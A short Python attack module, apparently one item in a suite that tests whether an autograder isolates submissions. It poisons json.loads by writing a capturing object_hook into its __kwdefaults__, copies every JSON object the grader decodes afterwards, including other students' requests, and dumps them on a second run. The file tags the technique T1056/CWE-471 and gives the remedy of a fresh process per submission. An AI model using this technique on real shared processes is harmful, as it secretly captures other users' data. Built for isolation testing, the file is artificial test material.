# SPDX-License-Identifier: MIT
"""Goal:  the next students' requests, whole.
Means: the default arguments of json.loads. They are a dict that belongs to the function and can be
       written: with a default object_hook, every JSON object that anybody decodes in this process
       passes through the attacker's hands. The grader decodes requests.
"""

import json

from attack import DONE, attempting, denied, loot, submit


def hook():
    def copy(thing):
        copy.seen.append(thing)
        return thing

    copy.seen = []
    return copy


def run(brief):
    submit("0")
    defaults = json.loads.__kwdefaults__
    if not brief.again:
        attempting()
        defaults["object_hook"] = hook()
        return DONE
    copy = defaults["object_hook"]
    if not copy:
        return denied("json.loads.__kwdefaults__", "nobody was overheard")
    defaults["object_hook"] = None
    loot(json.dumps(copy.seen))
    return DONE


ATTACK = {
    "effect": "the next student's request is copied as the grader reads it",
    "means": "a default object_hook for json.loads, written into its __kwdefaults__",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "quick": True,
    "id": "WARM-06",
    "attack_id": "T1056, CWE-471",
    "remedy": "a process of its own for each submission, started fresh",
    "run": run,
}
